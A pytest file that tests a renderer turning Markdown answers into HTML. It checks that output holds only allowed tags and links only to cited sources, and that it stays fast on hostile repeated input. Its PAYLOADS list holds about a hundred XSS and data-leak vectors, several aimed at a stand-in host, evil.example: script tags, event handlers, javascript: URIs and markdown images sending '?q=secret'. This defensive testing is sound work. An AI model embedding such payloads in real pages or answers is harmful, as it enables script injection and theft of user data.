"""An answer's HTML loads, runs and styles nothing, and links only where the answer cites."""

import html
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from advisor.answer.render import MAX_CHARACTERS, TAGS, escape_inline, strip_markdown, to_html

CITED = "https://help.examplia.example/fees"
EVIL = "https://evil.example/steal"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/?q=secret">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=https://evil.example/x.svg#a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<video src=https://evil.example autoplay></video>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio src=https://evil.example autoplay></audio>",
    "<source src=https://evil.example>",
    "<picture><source srcset=https://evil.example/a.png></picture>",
    "<track src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example>",
    "<link rel=dns-prefetch href=//secret.evil.example>",
    "<style>@import url(https://evil.example)</style>",
    "<style>body{background:url(https://evil.example)}</style>",
    '<p style="background:url(https://evil.example)">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1) background=https://evil.example>",
    "<table background=https://evil.example><tr><td>x</td></tr></table>",
    "<input type=image src=https://evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    f'<a href="{EVIL}" ping="{EVIL}">x</a>',
    f'<a href="{CITED}" onclick=alert(1)>x</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='https://evil.example'?>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=https://evil.example></portal>",
    "<x onclick=alert(1) style=animation-name:x>x</x>",
    "![](https://evil.example/?q=secret)",
    "![alt](https://evil.example/a.png 'title')",
    "![alt][ref]\n\n[ref]: https://evil.example/a.png",
    "[![](https://evil.example/a.png)](https://evil.example)",
    f"![]({CITED})",
    "![](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](/flag?text=secret)",
    "[x](?logout=1)",
    "[x](#top)",
    f"[x]({EVIL})",
    f"[{CITED}]({EVIL})",
    f"[x]({CITED}@evil.example)",
    f"[x]({CITED}.evil.example)",
    f"[x]({CITED}?q=secret)",
    f"[x]({CITED}#secret)",
    "[x](https://help.examplia.example%2ffees@evil.example)",
    "[1]: https://evil.example\n\nSee [1] and [x][1].",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example/auto",
    "www.evil.example",
    '[x](https://evil.example "onmouseover=alert(1)")',
    '[x](https://evil.example "\\" onmouseover=alert(1) \\"")',
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|:-:|--:|\n| ![](https://evil.example) | <script>x</script> |",
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "<\u200bscript>alert(1)</script>",
    "\u202egnp.live/elpmaxe.live//:sptth",
    "<a\x00 href=javascript:alert(1)>x</a>",
    "*<img src=x onerror=alert(1)>*",
    '<img src="`><img src=x onerror=alert(1)>`">',
    "\ud800<script>alert(1)</script>",
]


class Audit(HTMLParser):
    """Collect what a browser would see in the HTML."""

    def __init__(self) -> None:
        """Start with nothing seen."""
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag and its attributes."""
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        """Note text."""
        self.text += data

    def handle_comment(self, data: str) -> None:
        """Count a comment as a forbidden tag."""
        self.tags.add("!--")


def audit(rendered: str) -> Audit:
    seen = Audit()
    seen.feed(rendered)
    seen.close()
    assert seen.tags <= TAGS
    for tag, name, value in seen.attributes:
        assert (tag, name) in {("a", "href"), ("a", "target"), ("a", "rel"), ("ol", "start")}
        if name == "href":
            assert value == CITED
    return seen


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_loads_runs_styles_or_links(payload: str) -> None:
    audit(to_html(payload, {CITED}))
    audit(to_html(f"Before {payload} after [1].\n\n{payload}\n\n- {payload}", {CITED}, {1: CITED}))
    audit(to_html(payload, {CITED}, {1: "javascript:alert(1)", 2: EVIL.replace("https", "data")}))


def test_there_are_payloads_enough() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_escaped_titles_mean_nothing_to_markdown_or_html(payload: str) -> None:
    safe = escape_inline(payload)
    assert not set(safe) & set("<>\"'[](){}`*_!|~:/\\\n")
    seen = audit(to_html(f"A {safe} Z"))
    assert seen.tags == {"p"}
    assert seen.text.strip() == " ".join(f"A {html.unescape(safe)} Z".split())


@given(st.text(alphabet=st.sampled_from("<>\"'`[]()!*_#|-&;:/\\ \nab1=\x00"), max_size=120))
def test_any_text_renders_to_allowed_tags_only(text: str) -> None:
    audit(to_html(text, {CITED}, {1: CITED}))
    strip_markdown(text)


def test_markdown_of_an_answer_is_kept() -> None:
    text = (
        "# Fees\n\n**Examplia** keeps *some*:\n\n3. one\n4. two\n\n- a `code`\n\n> quote\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```\nx < y\n```\n\n~~old~~"
    )
    rendered = to_html(text)
    for piece in ("<h3>Fees</h3>", "<strong>Examplia</strong>", "<em>some</em>", '<ol start="3">', "<li>a <code>code"):
        assert piece in rendered
    for piece in ("<blockquote>", "<th>a</th>", "<td>2</td>", "<pre><code>x &lt; y", "<s>old</s>"):
        assert piece in rendered


def test_cited_link_opens_apart_and_tells_nothing() -> None:
    rendered = to_html(f"[the fees]({CITED})", {CITED})
    assert f'href="{CITED}"' in rendered
    assert 'target="_blank"' in rendered
    assert 'rel="noopener noreferrer nofollow"' in rendered


def test_link_elsewhere_keeps_its_words() -> None:
    assert to_html(f"See [the fees]({EVIL}).", {CITED}) == "<p>See the fees.</p>\n"


def test_addresses_with_odd_characters_still_match() -> None:
    url = "https://x.example/a?b=1&c=ü d"
    rendered = to_html("[a](<https://x.example/a?b=1&c=ü d>) [1]", {url}, {1: url})
    assert rendered.count("<a ") == 2


def test_markers_become_small_links_to_their_citation() -> None:
    rendered = to_html("It is 10%. [1][2] Later. [9]", (), {1: CITED, 2: "ftp://x.example"})
    assert rendered.count("<sup>") == 3
    assert rendered.count("<a ") == 1
    assert "[9]" in rendered
    assert "<sup>" not in to_html("It is 10%. [1]")


def test_a_marker_inside_code_stays_as_it_is() -> None:
    rendered = to_html("Write `x[1]` here. [1]\n\n    y[1]", (), {1: CITED})
    assert rendered.count("<sup>") == rendered.count("<a ") == 1
    assert "<code>x[1]</code>" in rendered


def test_an_endless_answer_is_cut_and_small_headings_stay_small() -> None:
    assert to_html("x" * (MAX_CHARACTERS + 50)).count("x") == MAX_CHARACTERS == 200_000
    assert strip_markdown("x" * (MAX_CHARACTERS + 50)).count("x") == MAX_CHARACTERS
    assert to_html("## a\n\n### b\n\n#### c\n\n###### d").split() == [
        "<h3>a</h3>",
        "<h3>b</h3>",
        "<h4>c</h4>",
        "<h4>d</h4>",
    ]


def test_only_markers_of_three_digits_or_fewer_are_markers() -> None:
    assert to_html("[1] [12] [123] [1234]", (), {n: CITED for n in (1, 12, 123, 1234)}).count("<sup>") == 3


def test_html_in_an_answer_is_shown_as_text() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in to_html("<b>bold</b>")


def test_words_of_a_markdown_text() -> None:
    text = f"# Fees\n\n**Examplia** keeps [10%]({CITED}) `now`.\nMore.\n\n- one\n- two\n\n![x]({EVIL})"
    assert strip_markdown(text).splitlines()[:4] == ["Fees", "Examplia keeps 10% now. More.", "- one", "- two"]
    assert "evil" not in strip_markdown(text)


@pytest.mark.parametrize(
    "unit", ["[", "*", "`", "_", "<", "> ", "![](", "[a](", "- ", "|", "**a", "<!--", "&", "\\", "[1]", "~~"]
)
def test_hostile_repetition_takes_no_time(unit: str) -> None:
    started = time.monotonic()
    audit(to_html(unit * (65_536 // len(unit)), {CITED}, {1: CITED}))
    assert time.monotonic() - started < 5
